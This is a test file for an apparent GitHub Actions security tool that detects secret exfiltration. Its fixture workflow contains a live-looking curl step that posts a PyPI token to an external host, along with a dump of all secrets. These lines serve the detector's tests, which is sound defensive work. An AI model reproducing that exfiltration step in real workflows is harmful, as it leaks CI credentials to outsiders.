import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { chmod, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { completePushFacts, readEvent } from '../../src/context/event.js';
import { inspectJob, loadJobContext } from '../../src/context/job-context.js';
import { ALL_SECRETS, jobSecretNames } from '../../src/context/job-secrets.js';
import { prefetchProbes, systemProbes } from '../../src/context/probes.js';
import { readRunnerFacts } from '../../src/context/runner.js';
import type { RunnerProbes } from '../../src/context/types.js';
import { createGitHubClient } from '../../src/github/client.js';
import { buildModel } from '../../src/workflow/build.js';
import type { Workflow } from '../../src/workflow/types.js';
import { FakeGitHub } from '../support/fake-github.js';

const WF = '.github/workflows/exfil.yml';
const SHA = 'e'.repeat(40);
const BEFORE = 'd'.repeat(40);
const GHOST = `name: Github Actions Security
on:
  push:
  workflow_dispatch:
env:
  REGION: eu
jobs:
  send:
    runs-on: ubuntu-latest
    steps:
      - uses: acme/exfil-guard@v1
      - name: Run
        run: curl -s -d "\${{ secrets.PYPI_API_TOKEN }}" https://bold-dhawan.45-139-104-115.plesk.page
        env:
          T: \${{ secrets[format('{0}_TOKEN', 'NPM')] }}
      - uses: some/action@v1
        with:
          token: \${{ secrets.GITHUB_TOKEN }}
          all: \${{ toJSON(secrets) }}
  call:
    uses: acme/shared/.github/workflows/r.yml@main
    secrets: inherit
`;

function model(text: string): Workflow {
  const m = buildModel(WF, text);
  assert.ok(m.kind === 'workflow');
  return m;
}

const probes: RunnerProbes = {
  inContainer: () => Promise.resolve(false),
  sudo: () => Promise.resolve(true),
  iptables: () => Promise.resolve(true),
};

describe('jobSecretNames', () => {
  it('collects secret reads of a job, dumps and computed names as all, GITHUB_TOKEN aside', () => {
    const wf = model(GHOST);
    const [send, call] = wf.jobs;
    assert.ok(send && call);
    assert.deepEqual(jobSecretNames(wf, send), ['PYPI_API_TOKEN', ALL_SECRETS]);
    assert.deepEqual(jobSecretNames(wf, call), [ALL_SECRETS]);
    const plain = model(
      'on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ secrets.GITHUB_TOKEN }}\n',
    );
    assert.deepEqual(jobSecretNames(plain, plain.jobs[0] ?? assert.fail()), []);
  });
});

describe('completePushFacts', () => {
  const payload = { before: BEFORE, after: SHA, repository: { full_name: 'acme/app' }, commits: [] };
  const truncated = { ...readEvent('push', payload, WF), commitsTruncated: true };

  it('asks the compare API when the payload was cut', async () => {
    const calls: string[] = [];
    const facts = await completePushFacts(
      truncated,
      payload,
      (a, b) => {
        calls.push(`${a}...${b}`);
        return Promise.resolve([{ path: WF, status: 'added' }]);
      },
      WF,
    );
    assert.equal(facts.workflowAdded, true);
    assert.deepEqual(calls, [`${BEFORE}...${SHA}`]);
  });

  it('does not ask when the payload is complete or the branch is new', async () => {
    const never = () => Promise.reject(new Error('must not be called'));
    const complete = readEvent('push', payload, WF);
    assert.equal(await completePushFacts(complete, payload, never, WF), complete);
    const created = { ...payload, before: '0'.repeat(40) };
    assert.equal((await completePushFacts(truncated, created, never, WF)).workflowAdded, false);
  });
});

describe('loadJobContext + inspectJob', () => {
  let gh: FakeGitHub;
  let dir: string;
  before(async () => {
    gh = await FakeGitHub.start({ token: 'ghs_test' });
    gh.addRepo('acme/app', { commits: { [SHA]: { [WF]: GHOST } } });
    dir = await mkdtemp(join(tmpdir(), 'eg-ctx-'));
  });
  after(() => gh.close());

  it('finds a GhostAction-style push: workflow read through the API, added by this push, secrets held', async () => {
    const eventPath = join(dir, 'event.json');
    await writeFile(
      eventPath,
      JSON.stringify({
        before: BEFORE,
        after: SHA,
        repository: { full_name: 'acme/app' },
        commits: [{ id: SHA, added: [WF], modified: [], removed: [] }],
        head_commit: { id: SHA, added: [WF], modified: [], removed: [] },
      }),
    );
    const env = {
      GITHUB_REPOSITORY: 'acme/app',
      GITHUB_WORKFLOW_REF: `acme/app/${WF}@refs/heads/main`,
      GITHUB_WORKFLOW_SHA: SHA,
      GITHUB_SHA: SHA,
      GITHUB_JOB: 'send',
      GITHUB_EVENT_NAME: 'push',
      GITHUB_EVENT_PATH: eventPath,
      GITHUB_ACTION: '__acme_exfil-guard',
      GITHUB_ACTION_REPOSITORY: 'acme/exfil-guard',
      RUNNER_ENVIRONMENT: 'github-hosted',
      RUNNER_OS: 'Linux',
      RUNNER_ARCH: 'X64',
    };
    const client = createGitHubClient({ token: 'ghs_test', apiUrl: gh.url });
    const ctx = await loadJobContext(
      env,
      { jobWorkflow: { ref: '', sha: '', repository: '', filePath: '' } },
      {
        client,
        workspace: dir,
      },
    );
    assert.equal(ctx.file.via, 'api');
    assert.equal(ctx.file.text, GHOST);
    assert.equal(ctx.event.workflowAdded, true);
    assert.equal(ctx.otherRepository, false);

    const inspection = await inspectJob(env, ctx, model(ctx.file.text), { probes, allowlist: [] });
    assert.equal(inspection.runtime.stepsBeforeGuard, 0);
    assert.deepEqual(inspection.jobSecrets, ['PYPI_API_TOKEN', ALL_SECRETS]);
    assert.deepEqual(
      inspection.findings.map((f) => [f.rule, f.severity]),
      [['workflow-added-by-this-push', 'error']],
    );
    assert.equal(inspection.note, undefined);
    for (const r of gh.log) assert.equal(JSON.stringify(r).includes('ghs_test'), false);
  });

  it('says when only the caller of a reusable workflow is known', async () => {
    const env = {
      GITHUB_REPOSITORY: 'acme/app',
      GITHUB_WORKFLOW_REF: `acme/app/${WF}@refs/heads/main`,
      GITHUB_WORKFLOW_SHA: SHA,
      GITHUB_JOB: 'inner-job',
      GITHUB_EVENT_NAME: 'workflow_dispatch',
    };
    const client = createGitHubClient({ token: 'ghs_test', apiUrl: gh.url });
    const ctx = await loadJobContext(
      env,
      { jobWorkflow: { ref: '', sha: '', repository: '', filePath: '' } },
      {
        client,
        workspace: dir,
      },
    );
    const inspection = await inspectJob(env, ctx, model(ctx.file.text), { probes, allowlist: [] });
    assert.equal(inspection.location.callerOnly, true);
    assert.match(inspection.note ?? '', /Job inner-job runs inside a reusable workflow/);
    assert.equal(inspection.runtime.stepsBeforeGuard, undefined);
  });
});

describe('systemProbes', () => {
  it('answers false without spawning anything where the probes do not apply', async () => {
    const p = systemProbes({ sudo: true }, 'win32');
    assert.deepEqual(await Promise.all([p.inContainer(), p.sudo?.(), p.iptables()]), [false, false, false]);
  });

  it('does not probe sudo unless asked (only egress control needs it; spawning it costs the step)', async () => {
    const p = systemProbes({ sudo: false }, 'linux', '');
    assert.equal(p.sudo, undefined);
    assert.equal(prefetchProbes(p).sudo, undefined);
    const facts = await readRunnerFacts({}, p, { allowlist: [] });
    assert.equal('sudo' in facts, false);
  });

  it('finds an iptables executable on PATH without running it', async () => {
    const bin = await mkdtemp(join(tmpdir(), 'eg-bin-'));
    await writeFile(join(bin, 'iptables'), '#!/bin/sh\nexit 1\n');
    await chmod(join(bin, 'iptables'), 0o755);
    assert.equal(await systemProbes({ sudo: false }, 'linux', bin).iptables(), true);
  });

  it('starts every probe once, up front', async () => {
    const calls: string[] = [];
    const probe = (name: string, answer: boolean | Error) => () => {
      calls.push(name);
      return answer instanceof Error ? Promise.reject(answer) : Promise.resolve(answer);
    };
    const p = prefetchProbes({
      inContainer: probe('c', true),
      sudo: probe('s', new Error('x')),
      iptables: probe('i', true),
    });
    assert.deepEqual(calls, ['c', 's', 'i']);
    assert.deepEqual(await Promise.all([p.inContainer(), p.sudo?.(), p.iptables(), p.sudo?.()]), [
      true,
      false,
      true,
      false,
    ]);
    assert.deepEqual(calls, ['c', 's', 'i']);
  });
});
